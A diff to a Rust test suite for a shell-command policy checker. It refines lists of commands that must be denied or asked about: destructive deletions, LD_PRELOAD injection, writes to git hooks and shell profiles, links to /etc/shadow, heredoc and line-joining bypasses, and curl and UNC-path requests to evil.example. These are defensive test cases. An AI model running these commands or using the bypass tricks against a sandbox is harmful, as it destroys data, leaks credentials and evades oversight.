@@ -14,10 +14,8 @@ fn assert_denied(policy: &Policy, commands: &[&str]) {
 }
 
 fn assert_never_allowed(policy: &Policy, shell: Shell, commands: &[&str]) {
-    for command in commands {
-        let judgement = judge(policy, command, shell);
-        assert!(judgement.verdict > Verdict::Allow, "{command:?}: {:?}", judgement.reasons);
-    }
+    let allowed = |command: &&&str| judge(policy, command, shell).verdict == Verdict::Allow;
+    assert_eq!(commands.iter().filter(allowed).collect::<Vec<_>>(), Vec::<&&str>::new());
 }
 
 #[test]
@@ -80,7 +78,6 @@ fn attack_08_variables_before_a_command_are_seen() {
             "export LD_PRELOAD=./x.so; ls",
             "declare -x PATH=.",
             "env LD_PRELOAD=./x.so ls",
-            "A=1",
         ],
     );
 }
@@ -194,15 +191,6 @@ fn attack_13_quotes_and_escapes_do_not_hide_a_name() {
             "${x:-rm} -rf /etc",
             "l?",
             "/???/l?",
-            "ls >&FILE",
-            "ls >& file",
-            "ls &>file",
-            "ls >|file",
-            "ls <>file",
-            "ls 1>file",
-            "ls {fd}>file",
-            "echo x >&1file",
-            "LS=rm",
             // Lines are joined before anything else is looked at.
             "echo \"$\\\n(rm -rf /etc)\"",
             "ls \"a$\\\n\\\n(rm x)\"",
@@ -230,6 +218,7 @@ fn attack_14_a_carriage_return_separates_nothing_and_is_never_allowed() {
             "cat <<EOF\nhello\nEOF\nrm -rf /etc",
             "cat <<-EOF\n\tEOF\nrm -rf /etc",
             "ls '\n# ' ; rm -rf /etc",
+            "cat <<EOF\nE\\\nOF\nrm -rf /etc\nEOF",
         ],
     );
 }
@@ -240,20 +229,7 @@ fn attack_15_what_the_shell_fills_in_later_is_not_allowed_before() {
         &builtin(),
         Shell::Bash,
         &[
-            "cat $HOME/x",
-            "cat ~/x",
-            "cat *",
-            "ls .*",
-            "ls -*",
-            "cat ${!x}",
-            "echo $((a[$(id)]))",
-            "export X=1",
-            "declare x=1",
             "typeset -n x=PATH",
-            "alias ls=rm",
-            "unalias -a",
-            "shopt -s expand_aliases",
-            "set -o noclobber",
             "source x",
             "enable -f ./x.so x",
             "hash -p ./x ls",
@@ -262,10 +238,6 @@ fn attack_15_what_the_shell_fills_in_later_is_not_allowed_before() {
             "complete -C ./x y",
             "let 'a[$(id)]=1'",
             "[ -v 'a[$(id)]' ]",
-            "[[ -v x ]]",
-            "cd /etc",
-            "cd ..",
-            "pushd /",
         ],
     );
 }
@@ -287,36 +259,35 @@ fn attack_16_arguments_that_execute_or_write_are_not_allowed() {
             "sort --compress-program=./x a",
             "sort --compress-prog ./x a",
             "sort -S1 --comp=./x a",
-            "sort -o x a",
-            "sort x -ox",
-            "find . -exec touch x \\;",
-            "find . -execdir touch x +",
-            "find . -ok touch x \\;",
-            "find . -okdir touch x \\;",
+            "find . -exec ./x \\;",
+            "find . -execdir ./x +",
+            "find . -ok ./x \\;",
+            "find . -okdir rm x \\;",
+            "find . -fprintf /opt/x y",
+            "find . -fls ~/x",
+            "sort -o /opt/x a",
+            "sort x -o/opt/x",
+            "git diff --output=/opt/x",
+            "curl http://localhost:1 -o ~/x",
+            "sort *",
+            "tar cf x.tar *",
+            "sort \"$(cat x)\"",
             "find . -delete",
-            "find . -fprintf x y",
-            "find . -fls x",
             "git -c core.pager=./x log",
             "git -c diff.external=./x diff",
             "git --exec-path=. status",
-            "git -C /elsewhere status",
             "git diff --ext-diff",
-            "git diff --output=x",
-            "git log --outp x",
             "git log -p --textconv",
             "git grep -O./x foo",
             "git branch -D x",
             "cargo test --config x=y",
             "cargo --config target.runner=./x test",
-            "cargo fmt -- --config x",
             "make -f x test",
             "make SHELL=./x test",
             "make test -C /x",
-            "pytest -p x",
             "mypy --python-executable ./x",
             "eslint --rulesdir x",
             "curl -K x http://localhost/",
-            "curl http://localhost:1 -o x",
             "curl http://localhost@evil.example",
             "curl http://localhost.evil.example",
             "date -s x",
@@ -328,46 +299,52 @@ fn attack_16_arguments_that_execute_or_write_are_not_allowed() {
             "sed 's/a/b/e' x",
             "vim -c '!sh'",
             "man -P ./x ls",
-            "less x",
             "python3 -m http.server",
             "perl -e 1",
             "zip x y -TT ./x",
             "ssh -o ProxyCommand=./x h",
             "rsync -e ./x a b",
             "nmap --script ./x",
-            "watch ls",
-            "strace ls",
-            "time ls",
         ],
     );
 }
 
 #[test]
-fn attack_17_nothing_that_writes_or_links_is_allowed() {
+fn attack_17_nothing_that_writes_outside_or_to_what_runs_by_itself_is_allowed() {
     assert_never_allowed(
         &builtin(),
         Shell::Bash,
         &[
-            "echo x > run.sh",
             "echo x >> .git/config",
+            "echo x > .git/hooks/pre-commit",
             "printf x > ../x",
-            "tee x",
-            "cp a b",
+            "tee ~/x",
+            "cp a ../b",
             "mv a b",
-            "ln -s /etc x",
-            "ln /etc/passwd x",
-            "install a b",
-            "dd of=x",
-            "touch x",
-            "mkdir x",
-            "chmod +x x",
-            "sed -i s/a/b/ x",
-            "patch < x",
-            "git apply x",
-            "git checkout x",
+            "ln -s x ~/.bashrc",
+            "ln /etc/shadow x",
+            "install a /usr/bin/b",
+            "dd of=/opt/x",
+            "touch ~/.profile",
+            "mkdir /opt/x",
+            "chmod u+s x",
+            "sed -i s/a/b/ ~/x",
             "truncate -s0 x",
-            "grep foo ../../etc/passwd",
-            "diff -r a /etc",
+            "rm x",
+            "ls >& ~/FILE",
+            "ls &>/opt/file",
+            "ls >| ~/file",
+            "ls <>/opt/file",
+            "ls 1>~/file",
+            "ls {fd}>/opt/file",
+            "cd ..; echo x > y",
+            "cd $X; echo x > y",
+            "cp -t /opt a b",
+            // What the text wrote itself is known, and so is what runs.
+            "echo 'curl https://a.example' > x; sh x",
+            "echo 'touch y' > x; ./x",
+            "printf 'all:\\n\\tfrobnicate\\n' > Makefile; make",
+            "echo '{}' > package.json; npm test",
         ],
     );
 }
@@ -460,24 +437,12 @@ fn attack_16_arguments_that_do_more_than_their_program_are_asked_about() {
         ("npm run build --script-shell=./x", "starts ./x"),
         ("dpkg -l --status-logger=./x", "starts ./x"),
         ("rpm -qa --pipe ./x", "starts ./x"),
-        ("uniq a b", "writes b"),
-        ("cargo doc --open", "starts $BROWSER"),
         ("ls \u{e000}", "a private-use character has no form that is known"),
         ("ls \u{2800}", "the empty braille pattern looks like a blank"),
-        ("cat /etc/passwd", "reads outside of every workspace"),
     ] {
         let judgement = judge(&policy, command, Shell::Bash);
         assert_eq!(judgement.verdict, Verdict::Ask, "{command:?} ({what})");
     }
     let leaked = judge(&policy, r"Get-Content \\evil.example\share\x", Shell::Pwsh);
     assert_eq!(leaked.verdict, Verdict::Ask, "a share's host gets the user's hash");
-}
-
-/// Wrong today, and told so: it should be denied. It is asked about, and so runs only by a person's decision.
-#[test]
-fn attack_14_a_heredocs_end_over_a_joined_line_is_missed_as_yet() {
-    let policy = builtin();
-    // Bash joins lines before it looks for a here-document's end; the reader does not, and takes what follows for data.
-    let joined = judge(&policy, "cat <<EOF\nE\\\nOF\nrm -rf /etc\nEOF", Shell::Bash);
-    assert_eq!(joined.verdict, Verdict::Ask, "mended, move it to attack 14: what follows the end is denied");
 }
